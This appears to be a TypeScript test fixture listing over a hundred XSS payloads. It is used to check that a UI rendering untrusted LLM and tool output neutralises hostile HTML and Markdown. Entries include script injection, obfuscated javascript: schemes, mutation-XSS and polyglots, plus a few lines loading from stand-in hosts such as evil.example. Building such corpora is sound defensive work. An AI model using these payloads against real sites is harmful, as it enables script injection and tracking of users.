// Hostile text an LLM, a tool or a run's state could hand the UI: script injection in raw HTML and
// in Markdown, dangerous URL schemes with every obfuscation the browser would undo, HTML that
// mutates on re-parsing, CSS and meta tricks, template syntax and polyglots. Payloads that would
// run code set the canary `window.__xss` (or call `alert`); `xss.test.tsx` renders each one
// through every component that shows untrusted text and checks none of it became markup.
//
// Sources of the classics: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat
// sheet, the DOMPurify mutation-XSS test cases, Gareth Heyes' and 0xsobky's polyglots.

export interface XssCase {
  name: string;
  payload: string;
}

export const XSS_CORPUS: XssCase[] = [
  // --- script tags
  { name: 'script tag', payload: '<script>window.__xss=1</script>' },
  { name: 'script alert', payload: '<script>alert(document.domain)</script>' },
  { name: 'script src upper case', payload: '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>' },
  { name: 'script split by nested tag', payload: '<scr<script>ipt>window.__xss=1</scr</script>ipt>' },
  { name: 'attribute breakout then script', payload: '"><script>window.__xss=1</script>' },
  { name: 'textarea breakout', payload: '</textarea><script>window.__xss=1</script>' },
  { name: 'title breakout', payload: '</title><script>window.__xss=1</script>' },
  { name: 'module script', payload: '<script type="module">window.__xss=1</script>' },
  { name: 'script with newline in tag', payload: '<script\n>window.__xss=1</script\n>' },

  // --- event handlers on elements
  { name: 'img onerror', payload: '<img src=x onerror="window.__xss=1">' },
  { name: 'img onmouseover', payload: '<IMG SRC=# onmouseover="alert(\'xxs\')">' },
  { name: 'img unclosed onerror', payload: '<img src="x" onerror=alert(1)//' },
  { name: 'img slashes as spaces', payload: '<img/src="x"/onerror=window.__xss=1>' },
  { name: 'img eval of src', payload: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'svg onload', payload: '<svg onload="window.__xss=1">' },
  { name: 'svg script', payload: '<svg><script>window.__xss=1</script></svg>' },
  { name: 'svg xlink:href', payload: '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">XSS</text></a></svg>' },
  { name: 'svg animate onbegin', payload: '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>' },
  { name: 'svg set href', payload: '<svg><a><set attributeName="href" to="javascript:window.__xss=1"/><text>clickme</text></a></svg>' },
  { name: 'details ontoggle', payload: '<details open ontoggle=window.__xss=1>' },
  { name: 'video source onerror', payload: '<video><source onerror="window.__xss=1"></video>' },
  { name: 'body onload', payload: '<body onload=window.__xss=1>' },
  { name: 'input autofocus onfocus', payload: '<input autofocus onfocus=window.__xss=1>' },
  { name: 'marquee onstart', payload: '<marquee onstart=window.__xss=1>scrolling</marquee>' },
  { name: 'safe link with handler', payload: '<a href="https://ok.example" onclick="window.__xss=1">ok link with handler</a>' },

  // --- frames, objects, forms
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>' },
  { name: 'iframe javascript src', payload: '<iframe src="javascript:parent.__xss=1"></iframe>' },
  { name: 'iframe data src', payload: '<iframe src="data:text/html,<script>parent.__xss=1</script>">' },
  { name: 'svg foreignObject iframe', payload: '<svg><foreignObject><iframe src="javascript:parent.__xss=1"></iframe></foreignObject></svg>' },
  { name: 'object data', payload: '<object data="javascript:window.__xss=1"></object>' },
  { name: 'embed svg data url', payload: '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { name: 'form action', payload: '<form action="javascript:window.__xss=1"><input type=submit value=go></form>' },
  { name: 'button formaction', payload: '<button formaction="javascript:window.__xss=1">press</button>' },
  { name: 'base href', payload: '<base href="javascript:window.__xss=1//">' },

  // --- Markdown links
  { name: 'md javascript link', payload: '[click me](javascript:window.__xss=1)' },
  { name: 'md mixed case scheme', payload: '[click](JaVaScRiPt:alert(1))' },
  { name: 'md entity colon', payload: '[click](javascript&#58;alert(1))' },
  { name: 'md entity first letter', payload: '[click](&#x6A;avascript:alert(1))' },
  { name: 'md decimal entity in scheme', payload: '[click](java&#115;cript:alert(1))' },
  { name: 'md data html link', payload: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'md vbscript link', payload: '[click](vbscript:msgbox("xss"))' },
  { name: 'md file link', payload: '[passwords](file:///etc/passwd)' },
  { name: 'md angle destination', payload: '[angle](<javascript:alert(1)>)' },
  { name: 'md reference link', payload: '[ref link][x]\n\n[x]: javascript:window.__xss=1' },
  { name: 'md autolink javascript', payload: '<javascript:window.__xss=1>' },
  { name: 'md percent newline in scheme', payload: '[click](java%0ascript:alert(1))' },
  { name: 'md control char before scheme', payload: '[click](\u0001javascript:alert(1))' },
  { name: 'md javascript comment newline', payload: '[click](javascript://%0aalert(1))' },
  { name: 'md title breakout', payload: '[ok](https://example.com "title\\" onmouseover=\\"alert(1)")' },
  { name: 'md url with html', payload: '[link](https://example.com/"><script>alert(1)</script>)' },
  { name: 'md mailto with html', payload: '[mail](mailto:a@b.example?body=<script>alert(1)</script>)' },
  { name: 'md relative link', payload: '[relative](../../etc/settings?x=1)' },

  // --- Markdown images (never loaded)
  { name: 'md javascript image', payload: '![alt text](javascript:window.__xss=1)' },
  { name: 'md image attribute breakout', payload: '![xss](x" onerror="window.__xss=1)' },
  { name: 'md tracking pixel', payload: '![tracker](https://evil.example/pixel.png)' },
  { name: 'md svg data image', payload: '![vector](data:image/svg+xml,<svg onload=alert(1)>)' },
  { name: 'md image in javascript link', payload: '[![inner](x)](javascript:alert(1))' },
  { name: 'md reference image', payload: '![ref image][img]\n\n[img]: javascript:alert(1)' },
  { name: 'raw img remote', payload: '<img src="http://evil.example/track.gif">' },

  // --- HTML links with obfuscated schemes
  { name: 'html javascript link', payload: '<a href="javascript:window.__xss=1">click</a>' },
  { name: 'html tab entity in scheme', payload: '<a href="jav&#x09;ascript:alert(1)">tabbed</a>' },
  { name: 'html newline entity in scheme', payload: '<a href="jav&#x0A;ascript:alert(1)">newline</a>' },
  { name: 'html control entity before scheme', payload: '<a href=" &#14;  javascript:alert(1)">control</a>' },
  { name: 'html entity letters in scheme', payload: '<a href="java&#115;cript:alert(1)">entity</a>' },
  { name: 'html data link', payload: '<a href="data:text/html,<script>alert(1)</script>">datalink</a>' },
  { name: 'html vbscript link', payload: '<a href="vbscript:msgbox(1)">vblink</a>' },

  // --- entities and encodings
  { name: 'escaped script', payload: '&lt;script&gt;window.__xss=1&lt;/script&gt;' },
  { name: 'numeric entity tag', payload: '&#60;img src=x onerror=window.__xss=1&#62;' },
  { name: 'entity in handler', payload: '<img src=x onerror=&#x77;indow.__xss=1>' },
  { name: 'js unicode escapes', payload: '\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e' },
  { name: 'percent encoded script', payload: '%3Cscript%3Ewindow.__xss=1%3C/script%3E' },
  { name: 'fullwidth brackets', payload: '＜script＞window.__xss=1＜/script＞' },

  // --- CSS, meta, link
  { name: 'style import', payload: '<style>@import \'http://xss.example/x.css\'; body{background:url("javascript:alert(1)")}</style>' },
  { name: 'style expression', payload: '<style>*{x:expression(window.__xss=1)}</style>' },
  { name: 'link stylesheet', payload: '<link rel="stylesheet" href="javascript:window.__xss=1">' },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">' },
  { name: 'style attribute url', payload: '<div style="background-image: url(javascript:alert(1))">styled</div>' },
  { name: 'css expression attribute', payload: '<div style="width: expression(alert(\'XSS\'));">css expression</div>' },

  // --- template syntax
  { name: 'template literal', payload: '${window.__xss=1}' },
  { name: 'backtick template', payload: '`${alert(document.cookie)}`' },
  { name: 'angular sandbox escape', payload: "{{constructor.constructor('window.__xss=1')()}}" },
  { name: 'server template', payload: '<%= window.__xss=1 %>' },

  // --- mutation XSS
  { name: 'noscript title', payload: '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">' },
  { name: 'svg p style', payload: '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">' },
  { name: 'math mglyph style', payload: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=window.__xss=1&gt;">' },
  { name: 'nested form math', payload: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>' },
  { name: 'listing entities', payload: '<listing>&lt;img src=x onerror=window.__xss=1&gt;</listing>' },
  { name: 'xmp', payload: '<xmp><img src=x onerror=window.__xss=1></xmp>' },
  { name: 'html comment', payload: '<!--<img src=x onerror=window.__xss=1>-->' },
  { name: 'cdata', payload: '<![CDATA[<script>window.__xss=1</script>]]>' },
  { name: 'processing instruction', payload: '<?xml-stylesheet href="javascript:alert(1)"?>' },
  { name: 'template element', payload: '<template><script>window.__xss=1</script></template>' },

  // --- unicode and line separators
  { name: 'line separator in md scheme', payload: '[sep](javascript\u2028:alert(1))' },
  { name: 'line separator in tag', payload: '<img src=x\u2028onerror=window.__xss=1>' },
  { name: 'paragraph separator before script', payload: '\u2029<script>window.__xss=1</script>' },
  { name: 'nul before scheme', payload: '<a href="\u0000javascript:alert(1)">nulled</a>' },
  { name: 'line separator entity before scheme', payload: '<a href="&#x2028;javascript:alert(1)">lsep</a>' },
  { name: 'zero width in scheme', payload: '[zero](java\u200bscript:alert(1))' },
  { name: 'rtl override', payload: '\u202e<script>window.__xss=1</script>\u202c' },

  // --- Markdown structures carrying HTML
  { name: 'fenced code', payload: '```html\n<script>window.__xss=1</script>\n```' },
  { name: 'table', payload: '| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=1> | [cell](javascript:alert(1)) |' },
  { name: 'footnote', payload: 'text[^1]\n\n[^1]: <script>window.__xss=1</script>' },
  { name: 'task list', payload: '- [x] <img src=x onerror=window.__xss=1>\n- [ ] todo' },
  { name: 'blockquote html', payload: '> <iframe src="javascript:parent.__xss=1"></iframe>\n> quoted' },
  { name: 'heading html', payload: '# <svg onload=window.__xss=1> heading' },
  { name: 'html block', payload: '<div>\n\n<script>window.__xss=1</script>\n\n</div>' },
  { name: 'gfm autolink literal', payload: 'see www.example.com/<script>alert(1)</script> now' },

  // --- polyglots
  {
    name: '0xsobky polyglot',
    payload: 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  },
  { name: 'quote polyglot', payload: '\'"><img src=x onerror=window.__xss=1>' },
  {
    name: 'closing tags polyglot',
    payload: 'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=window.__xss=1//>',
  },
  { name: 'markdown and html polyglot', payload: '[a](javascript:alert(1))<img src=x onerror=window.__xss=1>`<script>`**bold**' },
];
